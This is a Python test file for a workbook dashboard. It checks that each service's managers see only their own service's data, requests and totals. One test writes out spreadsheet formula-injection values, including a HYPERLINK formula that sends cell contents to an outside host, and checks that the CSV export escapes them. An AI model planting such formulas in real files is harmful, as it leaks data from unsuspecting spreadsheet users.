"""Several services on one page, and one service on its own: nothing of any other, and no totals."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from itertools import product

import pytest
from services import (
    AFTER,
    INSTRUMENT,
    MIDDLE,
    PERIOD,
)
from several_services import COAST, INLAND, ITEMS, built, twin_of, world

from widgets.pages.managers import _services_of, _themes
from widgets.themes import Themes
from widgets.themes_html import several_html, view_html
from workbook.storage import sheet_bytes
from workbook.storage.layout import RELEASED
from workbook.teams import service_id
from workbook.themes import brief
from workbook.themes.archive import MESSAGE_COLUMNS, Archive, PublishedPeriod
from workbook.themes.choices import Choice
from workbook.themes.requests import RequestNotFound, Requests
from workbook.themes.several import find_several, waiting_in_words

IDS = {name: service_id(name) for name in ("Coast", "Inland", "Uplands")}
#: Everything that a manager of the coast must never meet.
OF_INLAND = ("Inland", *INLAND, "inland-canarybird")


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    return built(tmp_path_factory.mktemp("several") / "data", world(1))


def page_of(data, *services, today=AFTER):
    """What `themes_page` shows to a link for these services."""
    released = data / RELEASED
    ids = None if not services else [IDS[name] for name in services]
    requests = Requests(released, services=ids, today=lambda: today)
    show, save = _themes(Archive(released, ids), requests)
    return show, save, requests


def choices():
    services = ("", "Coast", "Inland", "Uplands", "nonsense")
    for service, group in product(services, ("", "Group 1", "nonsense")):
        for instrument, theme in (("", ""), ("risk-and-choice", ""), (INSTRUMENT, "time")):
            yield Choice(service=service, group=group, instrument=instrument, theme=theme)


def everything(data, *services):
    """Every page, every file and every request that a link could be made to give."""
    show, save, requests = page_of(data, *services)
    asked = None if len(services) > 1 else requests.all
    said = [Themes(show, save=save, requests=asked)._content]
    for choice in choices():
        page = show(choice)
        said.append(repr(page))
        if page.view is not None:
            html = view_html if hasattr(page.view, "service") else several_html
            said.append(html(page.view))
            said += [save(what, choice).data for what in ("html", "docx")]
            with zipfile.ZipFile(io.BytesIO(save("csv", choice).data)) as files:
                said += [files.read(name).decode() + name for name in files.namelist()]
    return said


def test_a_manager_meets_nothing_of_another_service(data):
    """One key, one service: not its name, its teams, its checklists, its requests, its words."""
    said = repr(everything(data, "Coast"))
    assert "Coast" in said
    assert "coast-canarybird: two hours." in said
    for word in (*OF_INLAND, "Uplands", "Fell", "risk-and-choice.toml"):
        assert word not in said, word
    theirs = repr(everything(data, "Inland"))
    assert "inland-canarybird: forty pounds." in theirs
    assert "coast-canarybird" not in theirs


def test_no_request_of_another_service_can_be_answered(data):
    _, _, requests = page_of(data, "Coast")
    with pytest.raises(RequestNotFound):
        requests.reply("q00000002", "No.", decision="no", role="Manager")
    assert Requests(data / RELEASED).find("q00000002").replied_on is None


def test_without_any_service_a_served_page_shows_nothing(data):
    assert page_of(data)[0](Choice()).view is not None, "in JupyterLab there are all"
    archive, requests = Archive(data / RELEASED, ()), Requests(data / RELEASED, services=())
    show, _ = _themes(archive, requests)
    said = repr([show(choice) for choice in choices()])
    for word in ("Coast", *COAST, *OF_INLAND, "Uplands"):
        assert word not in said
    assert requests.all() == ()
    assert all(published.rows == () for published in archive.periods)

    class Opened:
        def __init__(self, *, served, invented=False, services=()):
            self.served, self.invented, self.services = served, invented, services

    assert _services_of(Opened(served=True)) == ()
    assert _services_of(Opened(served=False)) is None
    assert _services_of(Opened(served=True, invented=True)) is None
    assert _services_of(Opened(served=True, invented=True, services=("v1",))) == ("v1",)


def test_several_services_stand_side_by_side_and_together_in_released_words(data):
    show, _, _ = page_of(data, "Coast", "Inland")
    page = show(Choice())
    assert page.options.services[0] == ("", "All services, side by side")
    assert [name for name, _ in page.options.services[1:]] == ["Coast", "Inland"]
    view = page.view
    assert view.services == ("Coast", "Inland")
    own = {
        name: {
            each.item.id: each.sentence
            for each in show(Choice(service=name, instrument=INSTRUMENT)).view.items
        }
        for name in view.services
    }
    chosen = show(Choice(instrument=INSTRUMENT)).view
    assert len(chosen.items) == len(ITEMS)
    for each in chosen.items:
        assert each.sentences == (own["Coast"][each.item.id], own["Inland"][each.item.id])
    assert "In 1 of 2 groups" in repr([each.together for each in chosen.items])
    html = several_html(view)
    assert "services are not ranked" in html
    assert "nothing was published" not in html


def test_what_stands_together_comes_of_released_rows_and_of_nothing_else(data):
    """The words of "together" are a function of the two services' rows."""
    show, _, _ = page_of(data, "Coast", "Inland")
    together = {}
    for each in show(Choice(instrument=INSTRUMENT)).view.items:
        assert together.setdefault(tuple(sorted(each.sentences)), each.together) == each.together
        assert not any(
            sign.isdigit() for sign in each.together.replace("1 of 2", "").replace("2 of 2", "")
        )


def test_somebody_who_reads_several_services_reads_no_request(data):
    said = repr(everything(data, "Coast", "Inland"))
    assert "two hours" not in said
    assert "forty pounds" not in said


def test_nor_how_many_wait_in_a_brief_of_one_of_them(data):
    waits = "for an answer with a date"
    for service in ("", "Coast", "Inland"):
        brief_of = page_of(data, "Coast", "Inland")[1]("html", Choice(service=service))
        assert waits not in brief_of.data.decode()
    own = page_of(data, "Coast")[1]("html", Choice()).data.decode()
    assert f"One request waits {waits}" in own


def test_where_requests_wait_long_is_said_in_words_and_not_whose(data):
    sent = Requests(data / RELEASED).all()
    assert waiting_in_words(sent, MIDDLE, 15) == ""
    later = MIDDLE + timedelta(days=30)
    two = "In 2 services, some requests have waited longer than 15 working days."
    assert waiting_in_words(sent, later, 15) == two
    one = "In one service, some requests have waited longer than 15 working days."
    assert waiting_in_words(sent[:1], later, 15) == one
    view = page_of(data, "Coast", "Inland", today=later)[0](Choice()).view
    assert view.waiting == two
    assert two in several_html(view)
    assert two in brief.brief_html(view)


def test_a_service_that_is_too_small_or_missing_is_said_beside_the_others(data):
    show, _, _ = page_of(data, "Coast", "Uplands")
    html = several_html(show(Choice()).view)
    assert "This service is too small for anything to be published" in html
    archive = Archive(data / RELEASED)
    names = ["Coast", "Elsewhere"]
    view = find_several(archive, Choice(period=PERIOD), names)
    assert "nothing was published in this period" in several_html(view)


def test_a_period_of_all_services_is_saved_as_it_is_on_the_disk(data):
    _, save, _ = page_of(data)
    folder = data / RELEASED / PERIOD / "published"
    with zipfile.ZipFile(io.BytesIO(save("csv", Choice()).data)) as files:
        for name in files.namelist():
            assert files.read(name) == (folder / name).read_bytes()
        assert len(files.namelist()) == sum(path.is_file() for path in folder.rglob("*"))


def test_nothing_that_a_team_wrote_is_run_by_a_managers_spreadsheet(data, monkeypatch):
    formula = '=HYPERLINK("https://example.org?"&A1)'
    written = PublishedPeriod.files

    def files(period):
        found = written(period)
        rows = [("Coast", formula), ("Coast", "Well,\n+1; @SUM(A1)"), ("Coast", "We have no time.")]
        return {**found, "messages.csv": sheet_bytes(MESSAGE_COLUMNS, rows)}

    monkeypatch.setattr(PublishedPeriod, "files", files)
    saved = page_of(data, "Coast")[1]("csv", Choice()).data
    with zipfile.ZipFile(io.BytesIO(saved)) as whole:
        text = whole.read("messages.csv").decode()
    messages = [row[1] for row in csv.reader(io.StringIO(text, newline=""))]
    assert messages == ["text", f"'{formula}", "Well,\n'+1;' @SUM(A1)", "We have no time."]


def test_t3_twin_worlds_of_several_services_look_the_same_byte_for_byte(data, tmp_path):
    first = world(1)
    second = twin_of(first, 2)
    changed = sum(first[team][item] != second[team][item] for team in first for item in ITEMS)
    assert changed > len(first) * len(ITEMS) * 3 // 4, "the answers are other answers"
    twin = built(tmp_path / "twin", second)
    for services in (("Coast", "Inland"), ("Coast",), ("Coast", "Inland", "Uplands")):
        one, two = (everything(each, *services) for each in (data, twin))
        assert one == two
        assert len(one) > 30
    other = built(tmp_path / "other", world(3))
    assert everything(other, "Coast", "Inland") != one, "otherwise this could not fail"


def test_t5_a_total_of_several_services_from_answers_is_found_out():
    """Two groups of 12, few and most: a band of their 24 would leave one possibility of many."""

    def band(number, people):
        return (number > people // 4) + (number >= people - people // 4)

    seen = {}
    for coast, inland, uplands in product(range(13), repeat=3):
        said = (*(band(each, 12) for each in (coast, inland, uplands)),)
        seen.setdefault((said, band(coast + inland + uplands, 36)), []).append(
            (coast, inland, uplands)
        )
    assert [(12, 3, 12)] in seen.values(), "with a total one world is left"
    without = {}
    for (said, _), worlds in seen.items():
        without.setdefault(said, []).extend(worlds)
    for worlds in without.values():
        for place in range(3):
            numbers = {each[place] for each in worlds}
            assert max(numbers) - min(numbers) >= 3, "without it a quarter is left of each"


def test_the_widget_of_several_services_has_no_box_for_a_reply(data):
    show, save, requests = page_of(data, "Coast", "Inland")
    themes = Themes(show, save=save, requests=None, reply=None)
    sent = []
    themes.send = lambda content, buffers=None: sent.append(content)
    message = {"kind": "reply", "number": 1, "request": "q00000001", "decision": "no"}
    themes._heard(themes, {**message, "text": "No.", "role": "Head of Service"}, [])
    assert requests.find("q00000001").replied_on is None
    assert json.dumps(themes._content["requests"]) == "null"
